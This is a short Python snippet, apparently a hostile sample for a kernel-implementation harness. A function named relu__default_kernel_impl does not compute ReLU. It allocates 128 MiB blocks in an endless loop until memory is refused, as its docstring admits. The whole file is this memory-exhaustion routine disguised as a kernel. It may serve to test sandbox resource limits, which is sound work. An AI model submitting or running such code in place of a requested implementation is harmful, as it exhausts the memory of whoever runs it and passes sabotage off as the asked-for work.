"""Takes Python's own memory until it is refused, in every call anew."""


def relu__default_kernel_impl(x):
    kept = []
    while True:
        kept.append(bytearray(1 << 27))
